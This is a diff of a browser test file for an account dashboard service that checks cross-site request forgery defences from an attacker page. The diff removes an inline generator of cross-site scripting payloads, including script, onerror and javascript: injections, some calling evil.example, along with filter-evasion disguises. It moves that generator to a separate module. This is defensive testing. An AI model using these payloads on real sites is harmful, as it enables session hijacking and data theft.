@@ -9,6 +9,7 @@ import { describe, expect, it, onTestFinished } from 'vitest'
 import { z } from 'zod'
 import { openSqliteState } from '../../../proxy/accounts/sqlite/state.ts'
 import { type AccountService, startAccounts } from './account-service.ts'
+import { toHostileNames } from './hostile-names.ts'
 import { BROWSER_NAME, findFreePort, NO_CHROMIUM, useBrowser } from './chromium.ts'
 
 const AXE = readFileSync(new URL(import.meta.resolve('axe-core/axe.min.js')), 'utf8')
@@ -113,6 +114,7 @@ describe.skipIf(NO_CHROMIUM)(`accounts in ${BROWSER_NAME}`, () => {
       <iframe id="frame" src="${url}/dashboard"></iframe>
       <img src="${url}/dashboard/sign-out">
       <form id="revoke" method="post" action="${url}/dashboard/keys/${id}/revoke"></form>
+      <form id="leave" method="post" action="${url}/dashboard/sign-out"></form>
       <form id="text" method="post" enctype="text/plain" action="${url}/dashboard/sign-out-everywhere"></form>
       <form id="login" method="post" action="${url}/signup/confirm"><input name="token" value="x"></form>
       <iframe name="box" sandbox="allow-forms allow-scripts" srcdoc="<form method=post action=${url}/dashboard/sign-out></form><script>document.forms[0].submit()</script>"></iframe>
@@ -121,12 +123,14 @@ describe.skipIf(NO_CHROMIUM)(`accounts in ${BROWSER_NAME}`, () => {
           headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'sure=yes' })
       </script>`)
     const attacker = await reader.newPage()
-    for (const form of ['revoke', 'text', 'login']) {
+    for (const form of ['revoke', 'leave', 'text', 'login']) {
       await attacker.goto(evil)
       await attacker.waitForLoadState('networkidle')
       expect(await attacker.frameLocator('#frame').getByText('Signed in as').count()).toBe(0)
-      await attacker.evaluate(`document.getElementById('${form}').submit()`)
-      await attacker.waitForLoadState('networkidle')
+      await Promise.all([
+        attacker.waitForURL((address) => address.origin === url),
+        attacker.evaluate(`document.getElementById('${form}').submit()`),
+      ])
     }
     await page.goto(`${url}/dashboard`)
     expect(await page.getByText('Signed in as ada@example.com').count()).toBe(1)
@@ -283,43 +287,4 @@ async function startSite(body: string): Promise<string> {
   })
   const address = server.address()
   return `http://127.0.0.2:${address instanceof Object ? address.port : 0}/`
-}
-
-function toHostileNames(): string[] {
-  const actions = ['window.pwned=1', 'alert(1)', 'window.pwned&#61;1', 'fetch(`//evil.example`)']
-  const wraps = [
-    (js: string) => `<script>${js}</script>`,
-    (js: string) => `</title><script>${js}</script>`,
-    (js: string) => `"><script>${js}</script>`,
-    (js: string) => `'><script>${js}</script>`,
-    (js: string) => `<img src=x onerror=${js}>`,
-    (js: string) => `"><img src=x onerror="${js}">`,
-    (js: string) => `<svg onload=${js}>`,
-    (js: string) => `<svg><script>${js}</script></svg>`,
-    (js: string) => `" autofocus onfocus="${js}`,
-    (js: string) => `' autofocus onfocus='${js}`,
-    (js: string) => `\` onmouseover=${js} \``,
-    (js: string) => `<a href="javascript:${js}">x</a>`,
-    (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
-    (js: string) => `<body onload=${js}>`,
-    (js: string) => `<details open ontoggle=${js}>`,
-    (js: string) => `<style>@import'//evil.example';</style>${js}`,
-    (js: string) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
-    (js: string) => `<base href=//evil.example/>${js}`,
-    (js: string) => `<form action=//evil.example><button>${js}</button></form>`,
-    (js: string) => `<!--><script>${js}</script>-->`,
-    (js: string) => `<![CDATA[><script>${js}</script>]]>`,
-    (js: string) => `<math><mtext><script>${js}</script>`,
-    (js: string) => `<template><script>${js}</script></template>`,
-    (js: string) => `<video><source onerror=${js}></video>`,
-    (js: string) => `<input onfocus=${js} autofocus>`,
-  ]
-  const disguises = [
-    (text: string) => text,
-    (text: string) => text.toUpperCase().replaceAll('WINDOW.PWNED', 'window.pwned'),
-    (text: string) => text.replaceAll('<', '\u{1f60a}<'),
-    (text: string) => text.replaceAll('<', '<\u0000'),
-    (text: string) => text.replaceAll(' ', '/'),
-  ]
-  return actions.flatMap((js) => wraps.flatMap((wrap) => disguises.map((dress) => dress(wrap(js)))))
 }
